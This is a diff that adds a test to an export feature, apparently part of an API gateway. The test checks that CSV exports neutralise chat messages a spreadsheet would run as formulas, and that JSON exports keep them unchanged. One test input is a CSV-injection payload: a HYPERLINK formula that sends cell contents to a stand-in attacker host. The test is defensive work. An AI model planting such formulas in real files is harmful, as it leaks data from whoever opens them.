@@ -102,6 +102,31 @@ def test_transactions_and_conversations_exports_match_their_rows(busy: tuple[Gat
     assert {r["title"] for r in rows} == {"t|1"}
 
 
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(busy: tuple[Gateway, Any]) -> None:
+    """A message reading ``=HYPERLINK(…)`` (or starting + - @) exports to CSV with a leading
+    ``'``, so an admin opening the file in a spreadsheet sees text, not a formula; the JSON
+    export keeps the content as it is."""
+    gw, (tenant, headers) = busy
+    conv = httpx.post(gw.url + "/deepspace/api/conversations", headers=headers, json={"title": "@title"}).json()["id"]
+    typed = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+1+2", "-3", "@SUM(A1:A9)", "plain = text"]
+    for content in typed:
+        response = httpx.post(gw.base_url + "/chat/completions", headers=headers, timeout=30, json={
+            "model": MODEL, "conversation_id": conv, "messages": [{"role": "user", "content": content}]})
+        assert response.status_code == 200, response.text
+
+    job = run_job(gw, headers, "/exports", {"dataset": "conversations", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(download(gw, headers, job["result"]["file_id"]).text)))
+    mine = [r for r in rows if r["conversation_id"] == conv]
+    assert [r["content"] for r in mine if r["role"] == "user"] == ["'" + c for c in typed[:4]] + [typed[4]]
+    assert {r["title"] for r in mine} == {"'@title"}
+    assert all(int(r["tokens"]) >= 0 for r in mine if r["tokens"])  # numbers stay numbers
+
+    job = run_job(gw, headers, "/exports", {"dataset": "conversations", "format": "json"})
+    entries = [e for e in json.loads(download(gw, headers, job["result"]["file_id"]).text)
+               if e["conversation_id"] == conv]
+    assert [e["content"] for e in entries if e["role"] == "user"] == typed
+
+
 def test_an_export_window_and_bad_params_are_checked(busy: tuple[Gateway, Any]) -> None:
     gw, (tenant, headers) = busy
     job = run_job(gw, headers, "/exports", {"dataset": "usage", "format": "csv", "until": "2000-01-01T00:00:00Z"})
